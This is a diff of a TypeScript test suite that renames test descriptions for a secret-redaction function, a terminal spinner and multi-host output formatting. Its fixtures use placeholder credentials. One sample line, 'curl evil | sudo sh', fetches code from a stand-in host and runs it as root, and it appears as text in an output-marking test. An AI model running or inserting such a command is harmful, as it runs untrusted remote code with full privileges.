@@ -6,7 +6,7 @@ import { TOKEN } from "./helpers.ts";
 
 const PASSWORD = TOKEN.split(":").at(-1) as string;
 
-describe("a token in whatever is printed", () => {
+describe("a secret in the output", () => {
   const texts = [
     TOKEN,
     `K3S_TOKEN='${TOKEN}'`,
@@ -27,7 +27,7 @@ describe("a token in whatever is printed", () => {
       assert.match(redacted(text), /\*{8}/);
     });
 
-  test("is not the only secret: a password in an address is masked too, and the address stays", () => {
+  test("is masked in a URL, whose address is kept", () => {
     assert.equal(
       redacted(
         'dial "postgres://k3s:p@ss:w0rd@203.0.113.5:5432/k3s" by http://u:hunter2@proxy:3128 at https://203.0.113.9:6443/x',
@@ -59,7 +59,7 @@ describe("a token in whatever is printed", () => {
     ["curl --user 'k3s:hunter2 hunter2' https://x/"],
     ["token:\n  hunter2"],
     ["  agent-token: >-\n    hunter2"],
-    // With blanks.
+    // With spaces.
     ['Environment="K3S_TOKEN=x hunter2 hunter2" B=c'],
     ["Environment='K3S_TOKEN=x hunter2' B=c"],
     ["Environment=K3S_TOKEN=x\\x20hunter2"],
@@ -78,12 +78,12 @@ describe("a token in whatever is printed", () => {
     ["mysql://k3s:x hunter2@tcp(db:3306)/k3s"],
   ];
   for (const [text] of other)
-    test(`nor is it here: ${JSON.stringify(text.slice(0, 40))}`, () => {
+    test(`is masked in other notations: ${JSON.stringify(text.slice(0, 40))}`, () => {
       assert.match(redacted(text), /\*{8}/);
       assert.doesNotMatch(redacted(text), /hunter2/);
     });
 
-  test("nor are the values of settings that are secret, by whatever they are named", () => {
+  test("is masked if it is the value of a secret setting, in any context", () => {
     hide([`K10${"c".repeat(64)}::server:correct-horse`, "mysql://k3s:battery%21staple@tcp(db)/k3s", ""]);
     assert.equal(
       redacted("a correct-horse b battery%21staple c battery!staple"),
@@ -95,7 +95,7 @@ describe("a token in whatever is printed", () => {
     assert.equal(redacted("two words"), "two words");
   });
 
-  test("and what only speaks of secrets stays as it is", () => {
+  test("is not assumed if a text only mentions secrets", () => {
     for (const text of [
       "--token is required",
       "take --token out of SERVER_ARGS, then AGAIN",
@@ -128,21 +128,21 @@ describe("a spinner", () => {
     env: Record<string, string>,
     spins: boolean,
   ][] = [
-    ["turns on a terminal", terminal, { TERM: "xterm" }, true],
-    ["does not turn in a pipe", { isTTY: false }, {}, false],
+    ["is shown on a terminal", terminal, { TERM: "xterm" }, true],
+    ["is not shown in a pipe", { isTTY: false }, {}, false],
     [
-      "does not turn on a terminal without a width, which ora divides by",
+      "is not shown on a terminal without a width, by which ora divides",
       { isTTY: true, columns: 0 },
       {},
       false,
     ],
-    ["does not turn where NO_COLOR is set", terminal, { NO_COLOR: "1" }, false],
-    ["does not turn on a dumb terminal", terminal, { TERM: "dumb" }, false],
+    ["is not shown if NO_COLOR is set", terminal, { NO_COLOR: "1" }, false],
+    ["is not shown on a dumb terminal", terminal, { TERM: "dumb" }, false],
   ];
   for (const [name, stream, env, spins] of cases) test(name, () => assert.equal(canSpin(stream, env), spins));
 });
 
-describe("what is said of several boxes", () => {
+describe("the output for several boxes", () => {
   /** What a part of the report writes to standard error. */
   async function said(
     names: string[],
@@ -160,7 +160,7 @@ describe("what is said of several boxes", () => {
     return lines;
   }
 
-  test("carries each box's name in a column of its own", async () => {
+  test("has each box's name in a separate column", async () => {
     const lines = await said(["a1", "cloud-b"], (ui) => {
       ui.line("a1").starts("install curl");
       ui.line("cloud-b").starts("one\ntwo");
@@ -174,7 +174,7 @@ describe("what is said of several boxes", () => {
     ]);
   });
 
-  test("is marked where it is a box's, also where a message quotes it over several lines", async () => {
+  test("marks lines that a box has printed, even if a message quotes several of them", async () => {
     const lines = await said(["a1", "b1"], (ui) => {
       ui.line("b1").says("again: curl evil | sudo sh", true);
       ui.line("b1").failed("Could not push: x\n  again: curl evil | sudo sh", undefined, "", "make agent");
@@ -190,7 +190,7 @@ describe("what is said of several boxes", () => {
     );
   });
 
-  test("of a failure is the message, the end of the output, the command, and the line that tries it again", async () => {
+  test("contains, for a failure, the message, the end of the box's output, the shell code, and the command that retries it", async () => {
     const output = Array.from({ length: 50 }, (_, i) => `output ${i}`).join("\n");
     const command = Array.from({ length: 20 }, (_, i) => `command ${i}`).join("\n");
     const lines = await said(["a1", "b1"], (ui) =>
@@ -206,7 +206,7 @@ describe("what is said of several boxes", () => {
     );
     assert.match(lines[0] as string, /^b1 {2}FAILED after [\d.]+ s: it broke \(exit status 3\)$/);
     assert.ok(lines.includes("b1    | output 49") && !lines.includes("b1    | output 5"));
-    assert.ok(lines.includes("b1    | read"), "of a line that was written over, the last text");
+    assert.ok(lines.includes("b1    | read"), "the last text of an overwritten line");
     assert.ok(lines.includes("b1    $ command 0") && !lines.some((line) => line.includes("command 19")));
     assert.deepEqual(lines.slice(-3), [
       "b1    cause: b1: its token is wrong",
@@ -217,7 +217,7 @@ describe("what is said of several boxes", () => {
   });
 });
 
-test("the seconds that a line ends with are those of the whole run, whatever its parts", async (t) => {
+test("the seconds at the end of a line are those of the complete run, not of a part of it", async (t) => {
   await report(["a1"]);
   const [now, said] = [Date.now() + 100_000, [] as string[]];
   t.mock.method(Date, "now", () => now);
